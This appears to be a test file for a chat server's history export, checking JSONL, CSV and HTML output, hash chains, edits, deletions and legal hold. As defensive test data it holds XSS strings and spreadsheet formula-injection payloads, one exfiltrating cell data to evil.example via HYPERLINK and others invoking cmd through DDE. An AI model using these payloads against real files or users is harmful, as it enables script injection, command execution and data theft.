import t, { type Test } from 'tap';
import { createHash } from 'node:crypto';
import { readFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { GENESIS, messageHash } from '../../../src/store/history/chain.js';
import { listAudit } from '../../../src/store/history/audit.js';
import { addMember, removeMember } from '../../../src/store/admin/admin.js';
import { retentionPolicies, setHold } from '../../../src/store/history/retention.js';
import { manifestPath, parseDate, runExport, type ExportManifest } from '../../../src/store/history/export.js';
import { escapeHtml } from '../../../src/store/history/export-format.js';
import { historyFixture, DAY } from '../history-fixture.js';

const T0 = Date.UTC(2024, 4, 1, 9, 30);

const TRICKY = [
  'plain words',
  'a "quoted" word, a comma, and a; semicolon',
  'line one\nline two\r\nline three',
  '<script>alert("x")</script> & <b>bold</b> \' apostrophe',
  '历史聊天记录 with 中文 and emoji 🎉👍🏽',
  '=SUM(A1:A9) looks like a formula',
  '',
  '   leading and trailing spaces   ',
];

/** RFC 4180 reader, enough for the round trip. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += c;
  }
  if (field !== '' || row.length > 0) { row.push(field); rows.push(row); }
  return rows;
}

interface DbRow { id: number; seq: number; sender_id: number; client_msg_id: string; body: string; ts: number; hash: Buffer }

function setup(t: Parameters<typeof historyFixture>[0]) {
  const f = historyFixture(t);
  f.send(f.rooms.general, TRICKY, T0);
  f.send(f.rooms.general, ['bob speaks'], T0 + DAY, f.users.bob);
  f.send(f.rooms.general, ['a week later'], T0 + 7 * DAY);
  f.send(f.rooms.secret, ['not in the export'], T0);
  const rows = f.db.prepare('SELECT id, seq, sender_id, client_msg_id, body, ts, hash FROM messages WHERE room_id = ? ORDER BY seq').all(f.rooms.general) as DbRow[];
  return { f, rows };
}

const sha256 = (file: string): string => createHash('sha256').update(readFileSync(file)).digest('hex');

t.test('JSONL: every message, exactly as stored, with names, UTC times and hashes; the manifest matches', async (t) => {
  const { f, rows } = setup(t);
  f.close();
  const file = join(f.dir, 'general.jsonl');
  const m = await runExport(f.dir, { room: 'general', format: 'jsonl' }, { file });
  const lines = readFileSync(file, 'utf8').split('\n').filter((l) => l !== '');
  t.equal(lines.length, rows.length);
  t.equal(m.count, rows.length);
  const parsed = lines.map((l) => JSON.parse(l) as Record<string, string | number>);
  t.same(parsed.map((p) => p.body), rows.map((r) => r.body), 'bodies byte-for-byte');
  t.same(parsed.map((p) => p.seq), rows.map((r) => r.seq));
  t.same(parsed.map((p) => p.ts), rows.map((r) => new Date(r.ts).toISOString()));
  t.ok(parsed.every((p) => typeof p.ts === 'string' && p.ts.endsWith('Z')), 'ISO 8601 UTC');
  t.same(parsed.map((p) => p.fromName), [...TRICKY.map(() => 'alice'), 'bob', 'alice']);
  t.same(parsed.map((p) => p.hash), rows.map((r) => r.hash.toString('hex')));

  const onDisk: ExportManifest = JSON.parse(readFileSync(manifestPath(file), 'utf8'));
  t.same(onDisk, m);
  t.equal(m.sha256, sha256(file), 'the manifest carries the SHA-256 of the export file');
  t.equal(m.bytes, readFileSync(file).length);
  t.equal(m.firstSeq, 1);
  t.equal(m.lastSeq, rows.length);
  t.equal(m.firstHash, rows[0]?.hash.toString('hex'));
  t.equal(m.lastHash, rows[rows.length - 1]?.hash.toString('hex'));
  t.equal(m.chainBefore, GENESIS.toString('hex'));
  t.same(m.members.map((x) => x.name).sort(), ['alice', 'bob']);

  // The export verifies on its own: recompute the chain from chainBefore.
  let prev: Buffer = Buffer.from(m.chainBefore ?? '', 'hex');
  for (const p of parsed) {
    prev = messageHash(prev, {
      id: Number(p.msgId), room_id: Number(p.room), seq: Number(p.seq), sender_id: Number(p.from), client_msg_id: String(p.clientMsgId),
      body: String(p.body), ts: Date.parse(String(p.ts)),
    });
    t.equal(prev.toString('hex'), p.hash, `seq ${p.seq} recomputes`);
  }
  t.equal(prev.toString('hex'), m.lastHash);
  const audit = (await import('../../../src/store/db/database.js')).openReadOnly(f.dir);
  t.teardown(() => audit.close());
  t.match(listAudit(audit, undefined).filter((e) => e.action === 'export'), [{ details: { count: rows.length, sha256: m.sha256 } }]);
});

t.test('CSV: RFC 4180 round trip of every field, commas, quotes and line breaks included', async (t) => {
  const { f, rows } = setup(t);
  f.close();
  const file = join(f.dir, 'general.csv');
  const m = await runExport(f.dir, { room: 'general', format: 'csv' }, { file });
  const table = parseCsv(readFileSync(file, 'utf8'));
  t.same(table[0], ['room', 'roomName', 'seq', 'msgId', 'from', 'fromName', 'clientMsgId', 'ts', 'text', 'status', 'editedAt', 'deletedAt', 'attachments', 'body', 'hash']);
  const data = table.slice(1);
  t.equal(data.length, rows.length);
  // A cell starting with a formula trigger (or an apostrophe) carries one more leading apostrophe.
  const text = (cell: string | undefined): string => (cell?.startsWith("'") === true ? cell.slice(1) : cell ?? '');
  t.same(data.map((r) => text(r[8])), rows.map((r) => r.body), 'text of unchanged messages');
  t.same(data.map((r) => text(r[13])), rows.map((r) => r.body), 'body as stored');
  t.equal(data.find((r) => r[13]?.includes('SUM') === true)?.[13], "'=SUM(A1:A9) looks like a formula", 'a formula is not left for a spreadsheet to run');
  t.same(data.map((r) => Number(r[2])), rows.map((r) => r.seq));
  t.same(data.map((r) => r[14]), rows.map((r) => r.hash.toString('hex')));
  t.equal(m.sha256, sha256(file));
});

t.test('HTML: a readable transcript with every message, everything escaped', async (t) => {
  const { f, rows } = setup(t);
  f.db.prepare("UPDATE rooms SET name = ? WHERE id = ?").run('<img src=x onerror=alert(1)>', f.rooms.general);
  f.close();
  const file = join(f.dir, 'general.html');
  const m = await runExport(f.dir, { room: String(f.rooms.general), format: 'html' }, { file });
  const html = readFileSync(file, 'utf8');
  t.equal((html.match(/<div class="m"/g) ?? []).length, rows.length, 'one block per message');
  for (const r of rows) t.ok(html.includes(`<p class="b">${escapeHtml(r.body)}</p>`), `seq ${r.seq} present, escaped`);
  t.notOk(html.includes('<script>'), 'no markup from a body survives');
  t.notOk(html.includes('<img'), 'no markup from the room name survives');
  t.ok(html.includes('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;'));
  t.match(html, /<time datetime="2024-05-01T09:30:00.000Z">2024-05-01 09:30:00Z<\/time>/);
  t.equal(m.sha256, sha256(file));
});

t.test('--from/--to select by UTC time; a date-only --to includes that whole day', async (t) => {
  const { f } = setup(t);
  f.close();
  const file = join(f.dir, 'day.jsonl');
  const m = await runExport(f.dir, { room: 'general', format: 'jsonl', from: parseDate('2024-05-02', false), to: parseDate('2024-05-02', true) }, { file });
  t.equal(m.count, 1);
  t.equal(JSON.parse(readFileSync(file, 'utf8')).body, 'bob speaks');
  t.equal(m.chainBefore, m.firstSeq === null ? null : m.chainBefore);
  t.equal(m.firstSeq, TRICKY.length + 1);
  t.equal(m.period.from, '2024-05-02T00:00:00.000Z');
  t.equal(m.period.to, '2024-05-03T00:00:00.000Z');
  t.throws(() => parseDate('yesterday', false), { code: 'bad_request' });
  t.throws(() => parseDate('05/01/2024', false), { code: 'bad_request' });
});

t.test('membership changes within the period are in the manifest', async (t) => {
  const { f } = setup(t);
  addMember(f.db, 'general', 'carol');
  removeMember(f.db, 'general', 'carol');
  f.close();
  const file = join(f.dir, 'members.jsonl');
  const m = await runExport(f.dir, { room: 'general', format: 'jsonl' }, { file });
  t.same(m.membershipChanges.filter((c) => c.user === 'carol').map((c) => c.change), ['added', 'removed']);
});

t.test('a failing target leaves no export file behind', async (t) => {
  const { f } = setup(t);
  f.close();
  const file = join(f.dir, 'no-such-folder', 'x.jsonl');
  await t.rejects(runExport(f.dir, { room: 'general', format: 'jsonl' }, { file }), { code: 'ENOENT' });
  t.notOk(existsSync(file));
  t.notOk(existsSync(`${file}.partial`));
});

const EDITED_AT = T0 + 60_000;
const DELETED_AT = T0 + 120_000;
const PHOTO = { id: 'F1', sha256: createHash('sha256').update('photo bytes').digest('hex'), size: 11, mime: 'image/png', name: '<img src=x onerror=alert(1)>.png' };

/** general: a plain message, one edited, one deleted, one carrying only a file. */
function changedRoom(t: Test) {
  const f = historyFixture(t);
  const room = f.rooms.general;
  const user = f.users.alice;
  f.send(room, ['plain words', 'first draft', '<b>oops</b>'], T0);
  f.apply([{ k: 'file', file: { ...PHOTO, room, user, thumb: false }, quota: 0 }], T0);
  const sent = f.apply([{ k: 'send', room, user, clientMsgId: 'photo', body: '', attachments: [PHOTO.id] }], T0);
  t.match(sent, [{ ok: true }], 'the attachment-only message is sent');
  t.match(f.apply([{ k: 'edit', room, user, seq: 2, body: 'final text', windowMs: DAY }], EDITED_AT), [{ ok: true }]);
  t.match(f.apply([{ k: 'delete', room, user, seq: 3 }], DELETED_AT), [{ ok: true }]);
  f.close();
  return f;
}

const photoLine = `${PHOTO.name} (11 bytes, image/png, sha256 ${PHOTO.sha256})`;

t.test('CSV: an edited message shows its current text and when; a deleted one "(deleted)" and when; files by name, size, type and hash', async (t) => {
  const f = changedRoom(t);
  const file = join(f.dir, 'changed.csv');
  await runExport(f.dir, { room: 'general', format: 'csv' }, { file });
  const [header, ...data] = parseCsv(readFileSync(file, 'utf8'));
  t.same(header, ['room', 'roomName', 'seq', 'msgId', 'from', 'fromName', 'clientMsgId', 'ts', 'text', 'status', 'editedAt', 'deletedAt', 'attachments', 'body', 'hash']);
  const cells = (row: string[] | undefined) => row?.slice(8, 14);
  t.equal(data.length, 4);
  t.same(cells(data[0]), ['plain words', '', '', '', '', 'plain words'], 'plain');
  t.same(cells(data[1]), ['final text', '(edited)', new Date(EDITED_AT).toISOString(), '', '', ''], 'edited: current text, marker, time');
  t.same(cells(data[2]), ['(deleted)', '(deleted)', '', new Date(DELETED_AT).toISOString(), '', ''], 'deleted: never a blank');
  t.same(cells(data[3]), ['', '', '', '', photoLine, ''], 'attachment only');
});

t.test('JSONL: text, status, edit and deletion times and attachments with their content hash, for every message', async (t) => {
  const f = changedRoom(t);
  const file = join(f.dir, 'changed.jsonl');
  await runExport(f.dir, { room: 'general', format: 'jsonl' }, { file });
  const rows = readFileSync(file, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
  const pick = (r: Record<string, unknown> | undefined) => ({ text: r?.text, status: r?.status, editedAt: r?.editedAt, deletedAt: r?.deletedAt, attachments: r?.attachments, body: r?.body });
  t.same(pick(rows[0]), { text: 'plain words', status: '', editedAt: null, deletedAt: null, attachments: [], body: 'plain words' });
  t.same(pick(rows[1]), { text: 'final text', status: '(edited)', editedAt: new Date(EDITED_AT).toISOString(), deletedAt: null, attachments: [], body: '' });
  t.same(pick(rows[2]), { text: '(deleted)', status: '(deleted)', editedAt: null, deletedAt: new Date(DELETED_AT).toISOString(), attachments: [], body: '' });
  t.same(pick(rows[3]), {
    text: '', status: '', editedAt: null, deletedAt: null, body: '',
    attachments: [{ fileId: 'F1', name: PHOTO.name, size: 11, mime: 'image/png', sha256: PHOTO.sha256 }],
  });
});

t.test('HTML: "(edited)" and "(deleted)" with their times, files listed, file names escaped', async (t) => {
  const f = changedRoom(t);
  const file = join(f.dir, 'changed.html');
  await runExport(f.dir, { room: 'general', format: 'html' }, { file });
  const html = readFileSync(file, 'utf8');
  const block = (seq: number): string => html.match(new RegExp(`<div class="m" id="seq-${seq}">.*</div>\\n`))?.[0] ?? '';
  t.match(block(1), /#1<\/div><p class="b">plain words<\/p><\/div>/, 'plain');
  t.match(block(2), /#2 · <span class="s">\(edited <time datetime="2024-05-01T09:31:00.000Z">2024-05-01 09:31:00Z<\/time>\)<\/span><\/div><p class="b">final text<\/p>/);
  t.match(block(3), /#3 · <span class="s">\(deleted <time datetime="2024-05-01T09:32:00.000Z">2024-05-01 09:32:00Z<\/time>\)<\/span><\/div><p class="b s">\(deleted\)<\/p>/);
  t.notOk(block(3).includes('oops'), 'nothing of the deleted text');
  t.ok(block(4).includes(`<ul class="f"><li>File <b>${escapeHtml(PHOTO.name)}</b> · 11 bytes · image/png · sha256 <code>${PHOTO.sha256}</code></li></ul>`), 'attachment only');
  t.notOk(html.includes('<img'), 'no markup from a file name survives');
});

t.test('a deleted message\'s files: released and not listed, unless the room is under legal hold, where they stay listed with their hash', async (t) => {
  for (const held of [false, true]) {
    const f = historyFixture(t);
    const room = f.rooms.general;
    const user = f.users.alice;
    if (held) setHold(f.db, 'general', true);
    f.apply([{ k: 'file', file: { ...PHOTO, room, user, thumb: false }, quota: 0 }], T0);
    f.apply([{ k: 'send', room, user, clientMsgId: 'p', body: 'see photo', attachments: [PHOTO.id] }], T0);
    t.match(f.apply([{ k: 'delete', room, user, seq: 1 }], DELETED_AT), [{ ok: true }]);
    f.close();
    const file = join(f.dir, 'held.jsonl');
    await runExport(f.dir, { room: 'general', format: 'jsonl' }, { file });
    const row = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
    t.same({ text: row.text, status: row.status, deletedAt: row.deletedAt, body: row.body, attachments: row.attachments }, {
      text: '(deleted)', status: '(deleted)', deletedAt: new Date(DELETED_AT).toISOString(), body: held ? 'see photo' : '',
      attachments: held ? [{ fileId: 'F1', name: PHOTO.name, size: 11, mime: 'image/png', sha256: PHOTO.sha256 }] : [],
    }, held ? 'under legal hold' : 'no hold');
  }
});

t.test('CSV: no cell starts as a formula a spreadsheet would run (= + - @), file names included', async (t) => {
  const f = historyFixture(t);
  const room = f.rooms.general;
  const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)'];
  f.send(room, payloads, T0);
  f.apply([{ k: 'file', file: { id: 'F1', sha256: 'a'.repeat(64), size: 1, mime: 'text/plain', name: '=cmd|x!A0.txt', room, user: f.users.alice, thumb: false }, quota: 0 }], T0);
  f.apply([{ k: 'send', room, user: f.users.alice, clientMsgId: 'att', body: '', attachments: ['F1'] }], T0);
  f.close();
  const file = join(f.dir, 'x.csv');
  await runExport(f.dir, { room: 'general', format: 'csv' }, { file });
  const csv = readFileSync(file, 'utf8');
  // After the CSV quoting is taken off, no cell may begin with a formula trigger.
  const cells = csv.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)).map((c) => c.replace(/^"/, ''));
  const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
  t.same(dangerous, [], 'no cell starts with = + - @');
});

t.test('a deleted message (no hold) releases its files and their names: the JSONL lists them nowhere, not even in extra', async (t) => {
  const f = historyFixture(t);
  const room = f.rooms.general;
  const user = f.users.alice;
  f.apply([{ k: 'file', file: { id: 'F1', sha256: 'b'.repeat(64), size: 5, mime: 'application/pdf', name: 'layoffs-2024-names.pdf', room, user, thumb: false }, quota: 0 }], T0);
  f.apply([{ k: 'send', room, user, clientMsgId: 'p', body: 'see @bob', attachments: ['F1'] }], T0);
  t.match(f.apply([{ k: 'delete', room, user, seq: 1 }], T0 + DAY / 24), [{ ok: true }]);
  f.close();
  const file = join(f.dir, 'x.jsonl');
  await runExport(f.dir, { room: 'general', format: 'jsonl' }, { file });
  const line = readFileSync(file, 'utf8');
  const row = JSON.parse(line) as { attachments: unknown[]; extra?: unknown };
  t.same(row.attachments, [], 'attachments: none (released)');
  t.notMatch(line, /layoffs-2024-names\.pdf/, 'the deleted file\'s name is not in the export');
});

t.test('--from/--to/--since date-times without an offset are UTC, as the help and docs say, whatever the machine\'s TZ', async (t) => {
  const before = process.env.TZ;
  process.env.TZ = 'Europe/Berlin';
  t.teardown(() => { if (before === undefined) delete process.env.TZ; else process.env.TZ = before; });
  t.equal(new Date(Date.UTC(2024, 4, 1)).getHours(), 2, 'the TZ took effect');
  t.equal(parseDate('2024-05-01T12:00:00', false), Date.UTC(2024, 4, 1, 12), '2024-05-01T12:00:00 is noon UTC');
  t.equal(parseDate('2024-05-01', false), Date.UTC(2024, 4, 1), 'date-only is UTC midnight');
});

t.test('a room name that is another room\'s id is refused, not guessed: id:N says which', async (t) => {
  const f = historyFixture(t);
  // secret is room 2 (alice and carol); bob makes a room named "2" through the native door.
  t.equal(f.rooms.secret, 2);
  const made = f.apply([{ k: 'room-create', user: f.users.bob, name: '2', topic: '', invite: [], joinRule: 'invite', history: 'shared' }], Date.now())[0];
  if (made === undefined || !made.ok || !('room' in made)) throw new Error(JSON.stringify(made));
  f.send(f.rooms.secret, ['alice and carol only'], Date.now());
  t.throws(() => setHold(f.db, '2', true), { code: 'conflict', message: /"2" is room 2's id \(secret\) and room \d+'s name: say id:2 or id:\d+/ });
  t.same(retentionPolicies(f.db).rooms.filter((r) => r.hold), [], 'no hold was set on either');
  setHold(f.db, `id:${made.room}`, true);
  t.same(retentionPolicies(f.db).rooms.filter((r) => r.hold).map((r) => r.name), ['2'], 'id:N names the room by its id alone');
  f.close();
  await t.rejects(runExport(f.dir, { room: '2', format: 'jsonl' }, { file: join(f.dir, 'x.jsonl') }), { code: 'conflict' });
  const m = await runExport(f.dir, { room: 'id:2', format: 'jsonl' }, { file: join(f.dir, 'y.jsonl') });
  t.equal(m.room.name, 'secret');
  t.match(readFileSync(join(f.dir, 'y.jsonl'), 'utf8'), /alice and carol only/);
});
